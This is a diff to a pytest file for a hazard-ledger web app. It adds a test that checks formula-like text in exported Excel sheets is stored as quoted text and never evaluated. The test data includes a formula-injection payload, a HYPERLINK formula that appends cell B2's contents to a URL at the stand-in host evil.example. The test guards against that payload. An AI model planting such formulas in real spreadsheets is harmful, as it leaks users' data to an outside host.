@@ -1,6 +1,7 @@
 """Excel import all or nothing, with row numbers; Excel and PDF export through the exports
 pipeline; an exported sheet imports again."""
 import io
+import zipfile
 from datetime import date
 
 import pytest
@@ -137,6 +138,19 @@ def test_excel_export_lists_the_filtered_ledger_and_imports_again(client, sessio
     # The same file is a valid import: the ledger moves between systems without retyping.
     created = service.import_ledger(people["street"], download.data, today=date.today())
     assert [h.description for h in created] == ["报警器失效"] and created[0].tenant_id == t["a_plant"].id
+
+
+def test_text_that_looks_like_a_formula_exports_as_text(client, session, people, make_hazard):
+    typed = '=HYPERLINK("http://evil.example/?d="&B2,"查看整改照片")'
+    make_hazard(description=typed)
+    make_hazard(description="-1+2 号罐区液位计失灵", level="general")
+    login(client, people["district"].user)
+    download = _export(client, "xlsx")
+    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(download.data)).read("xl/worksheets/sheet1.xml")
+    cells = {c.value: c for row in load_workbook(io.BytesIO(download.data))["隐患台账"].iter_rows() for c in row}
+    for text in (typed, "-1+2 号罐区液位计失灵"):
+        # Reads exactly as typed, stored as text with Excel's quote-prefix mark: never evaluated.
+        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
 
 
 def test_pdf_export_is_laid_out_with_the_rows(client, session, people, make_hazard, monkeypatch):
